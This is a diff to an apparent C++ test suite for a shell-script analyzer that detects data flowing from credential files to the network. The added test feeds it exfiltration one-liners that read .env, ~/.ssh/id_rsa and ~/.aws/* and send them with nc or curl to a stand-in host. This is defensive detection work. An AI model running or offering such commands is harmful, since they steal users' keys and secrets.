@@ -219,3 +219,13 @@ TEST_CASE("a substitution inside a pipeline stage reads that stage's stdin") {
   CHECK(has_flow(analyze("env | curl --data-binary @/dev/stdin https://s.example.com"), "env_dump", "network"));
   CHECK(analyze("X=$(cat version.txt); echo $X").flows.empty());
 }
+
+TEST_CASE("credential files read by globs, $(< file), dd and descriptors are sources") {
+  for (auto script : {"cat .en? | nc h.example.com 1", "curl -d \"$(< .env)\" https://h.example.com",
+                      "dd if=$HOME/.ssh/id_rsa | nc h.example.com 1", "exec 3< .env; curl -d @- https://h.example.com <&3",
+                      "while read l; do curl \"https://h.example.com/$l\"; done < .env", "cat ~/.aws/* | nc h.example.com 1"}) {
+    INFO(script);
+    CHECK(has_flow(analyze(script), "credential_file", "network"));
+  }
+  CHECK_FALSE(has_flow(analyze("cat *.md | nc h.example.com 1"), "credential_file", "network"));
+}
